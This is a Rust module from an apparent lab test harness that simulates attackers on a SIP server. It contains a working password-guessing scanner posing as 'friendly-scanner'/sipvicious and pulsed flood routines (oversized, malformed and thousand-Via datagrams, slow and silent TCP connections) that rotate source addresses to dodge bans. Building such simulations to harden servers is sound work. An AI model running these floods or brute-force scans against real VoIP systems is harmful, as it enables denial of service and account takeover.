//! Attackers: a scanner that looks for accounts and passwords all the time, and floods in pulses.
//!
//! They change their address all the time, so that a ban of one address does not end the attack.

use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::Result;

use super::trial::{count, rest};
use crate::chance::Chance;
use crate::lab::{Host, Lab};
use crate::phone::digest::{Answer, Challenge};
use crate::phone::message::Message;

/// The last octets of the attackers' addresses.
const ADDRESSES: std::ops::RangeInclusive<u8> = 100..=219;
/// An address is used for so many datagrams.
const DATAGRAMS_OF_ADDRESS: u64 = 400;
/// Datagrams are sent in bursts of this length.
const BURST: Duration = Duration::from_millis(10);
/// The largest payload of a datagram over IPv4.
const DATAGRAM_BYTES_MAX: usize = 65_507;

/// How much of it there is.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// While a flood lasts.
    pub datagrams_a_second: u32,
    /// So many connections of one flood.
    pub connections: usize,
    /// How long a flood lasts.
    pub pulse: Duration,
    /// And how long it is quiet after it.
    pub pause: Duration,
    /// All the time.
    pub scans_a_second: u32,
}

/// What the attackers have sent.
#[derive(Debug, Default)]
pub struct Toll {
    /// Datagrams and connections of floods.
    pub flood: AtomicU64,
    /// Requests of scanners.
    pub scans: AtomicU64,
}

/// What a flood is made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Flood {
    /// Random bytes.
    Garbage,
    /// INVITEs without any proof of who sends them.
    Invites,
    /// Datagrams as large as they can be.
    Huge,
    /// SIP with some bytes wrong.
    Malformed,
    /// Connections that say nothing.
    SilentConnections,
    /// REGISTERs of users that are not there.
    Registers,
    /// Responses to nothing.
    Responses,
    /// Connections that say one byte now and then.
    SlowConnections,
    /// A request with a thousand Vias.
    Vias,
}

impl Flood {
    /// In the order in which they come.
    const ALL: [Flood; 9] = [
        Flood::Garbage,
        Flood::Invites,
        Flood::Huge,
        Flood::Malformed,
        Flood::SilentConnections,
        Flood::Registers,
        Flood::Responses,
        Flood::SlowConnections,
        Flood::Vias,
    ];

    /// Large ones come in smaller numbers.
    fn share(self) -> u32 {
        match self {
            Flood::Huge => 20,
            Flood::Vias => 10,
            _ => 1,
        }
    }
}

impl Attack {
    /// The host that all of them use.
    pub fn host(lab: &Lab) -> Result<Host> {
        let host = lab.host("attacker", *ADDRESSES.start())?;
        for number in ADDRESSES.skip(1) {
            host.add_address(number)?;
        }
        Ok(host)
    }

    /// Looks for accounts and passwords until it is stopped.
    pub fn scan(&self, target: SocketAddr, stop: &AtomicBool, toll: &Toll) -> Result<()> {
        let between = Duration::from_secs(1) / self.scans_a_second;
        let mut number = 0;
        while !stop.load(Ordering::Relaxed) {
            let socket = UdpSocket::bind((address(number / 20), 0))?;
            socket.set_read_timeout(Some(between))?;
            for _ in 0..20 {
                number += 1;
                scan_once(&socket, target, number)?;
                count(&toll.scans);
                rest(between, stop);
            }
        }
        Ok(())
    }

    /// Sends flood after flood until it is stopped.
    pub fn flood(&self, target: SocketAddr, round: u64, stop: &AtomicBool, toll: &Toll) -> Result<()> {
        let mut place = round as usize * 2;
        while !stop.load(Ordering::Relaxed) {
            let flood = Flood::ALL[place % Flood::ALL.len()];
            place += 1;
            match flood {
                Flood::SilentConnections | Flood::SlowConnections => self.connect(flood, target, stop, toll),
                _ => self.send(flood, target, place as u64, stop, toll)?,
            }
            rest(self.pause, stop);
        }
        Ok(())
    }

    fn send(
        &self,
        flood: Flood,
        target: SocketAddr,
        seed: u64,
        stop: &AtomicBool,
        toll: &Toll,
    ) -> Result<()> {
        let a_second = f64::from(self.datagrams_a_second / flood.share());
        let (start, mut sent) = (Instant::now(), 0);
        let mut chance = Chance(seed);
        let mut socket = UdpSocket::bind((address(seed), 0))?;
        while start.elapsed() < self.pulse && !stop.load(Ordering::Relaxed) {
            while (sent as f64) < start.elapsed().as_secs_f64() * a_second {
                sent += 1;
                if sent % DATAGRAMS_OF_ADDRESS == 0 {
                    socket = UdpSocket::bind((address(chance.next()), 0))?;
                }
                let local = socket.local_addr()?;
                // A full queue of our own is as good as one on the way.
                let _ = socket.send_to(&bytes(flood, local, target, &mut chance), target);
                count(&toll.flood);
            }
            std::thread::sleep(BURST);
        }
        Ok(())
    }

    /// Opens connections and holds them. One that the server closes is not opened again.
    fn connect(&self, flood: Flood, target: SocketAddr, stop: &AtomicBool, toll: &Toll) {
        let start = Instant::now();
        let mut held: Vec<TcpStream> = Vec::new();
        while held.len() < self.connections && start.elapsed() < self.pulse && !stop.load(Ordering::Relaxed) {
            let Ok(stream) = TcpStream::connect_timeout(&target, Duration::from_millis(500)) else {
                continue;
            };
            let _ = stream.set_nonblocking(true);
            held.push(stream);
            count(&toll.flood);
        }
        while start.elapsed() < self.pulse && !stop.load(Ordering::Relaxed) {
            if flood == Flood::SlowConnections {
                held.retain_mut(|stream| stream.write_all(b"O").is_ok());
            }
            rest(Duration::from_millis(500), stop);
        }
    }
}

/// One look at the server, as scanners do: which methods, which users, which passwords.
fn scan_once(socket: &UdpSocket, target: SocketAddr, number: u64) -> Result<()> {
    let user = format!("{}", 100 + number % 400);
    let method = ["OPTIONS", "REGISTER", "INVITE", "REGISTER"][(number % 4) as usize];
    let request = |cseq: u32| {
        let local = socket.local_addr()?;
        anyhow::Ok(
            Message::request(method, &format!("sip:{}", target.ip()))
                .with("Via", format!("SIP/2.0/UDP {local};branch=z9hG4bK-scan-{number}-{cseq};rport"))
                .with("Max-Forwards", "70")
                .with("From", format!("\"sipvicious\" <sip:{user}@{}>;tag=scan{number}", target.ip()))
                .with("To", format!("<sip:{user}@{}>", target.ip()))
                .with("Call-ID", format!("scan-{number}"))
                .with("CSeq", format!("{cseq} {method}"))
                .with("Contact", format!("<sip:{user}@{local}>"))
                .with("User-Agent", "friendly-scanner"),
        )
    };
    let _ = socket.send_to(&request(1)?.to_bytes(), target);
    let mut buffer = [0; 4096];
    // A ban is silence.
    let Ok((length, _)) = socket.recv_from(&mut buffer) else { return Ok(()) };
    let Some(answer) = Message::parse(&buffer[..length]) else { return Ok(()) };
    let challenge = answer.header("WWW-Authenticate").and_then(Challenge::parse);
    if let Some(challenge) = challenge {
        let uri = format!("sip:{}", target.ip());
        let password = format!("{number}");
        let value = challenge.answer(Answer {
            user: &user,
            password: &password,
            method,
            uri: &uri,
            count: 1,
            cnonce: "0a4f113b",
        });
        let _ = socket.send_to(&request(2)?.with("Authorization", value).to_bytes(), target);
    }
    Ok(())
}

/// One datagram of a flood.
fn bytes(flood: Flood, local: SocketAddr, target: SocketAddr, chance: &mut Chance) -> Vec<u8> {
    let number = chance.next();
    let request = |method: &str, user: &str| {
        Message::request(method, &format!("sip:{user}@{}", target.ip()))
            .with("Via", format!("SIP/2.0/UDP {local};branch=z9hG4bK-flood-{number};rport"))
            .with("Max-Forwards", "70")
            .with("From", format!("<sip:{user}@{}>;tag=f{number}", target.ip()))
            .with("To", format!("<sip:{user}@{}>", target.ip()))
            .with("Call-ID", format!("flood-{number}"))
            .with("CSeq", format!("1 {method}"))
            .with("Contact", format!("<sip:{user}@{local}>"))
    };
    match flood {
        Flood::Garbage => (0..20 + number % 600).map(|_| chance.next() as u8).collect(),
        Flood::Invites => request("INVITE", &format!("u{}", number % 200)).to_bytes(),
        Flood::Registers => request("REGISTER", &format!("{}", number % 10_000)).to_bytes(),
        Flood::Huge => {
            let mut bytes = request("INVITE", "u1").with("X-Filler", "f".repeat(60_000)).to_bytes();
            bytes.resize(DATAGRAM_BYTES_MAX, b'x');
            bytes
        }
        Flood::Malformed => {
            let mut bytes = request("INVITE", "u1").to_bytes();
            for _ in 0..3 {
                let place = chance.next() as usize % bytes.len();
                bytes[place] = chance.next() as u8;
            }
            bytes
        }
        Flood::Responses => {
            let asked = request("INVITE", "u1")
                .with_only("Via", format!("SIP/2.0/UDP {target};branch=z9hG4bKnothing{number}"));
            Message::response(&asked, 200, "OK").to_bytes()
        }
        Flood::Vias => {
            let via = |n| format!("SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK-{n}");
            (0..1000).fold(request("OPTIONS", "u1"), |message, n| message.with("Via", via(n))).to_bytes()
        }
        // They are no datagrams.
        Flood::SilentConnections | Flood::SlowConnections => Vec::new(),
    }
}

fn address(number: u64) -> IpAddr {
    let count = u64::from(ADDRESSES.end() - ADDRESSES.start()) + 1;
    IpAddr::V4(Ipv4Addr::new(203, 0, 113, ADDRESSES.start() + (number % count) as u8))
}
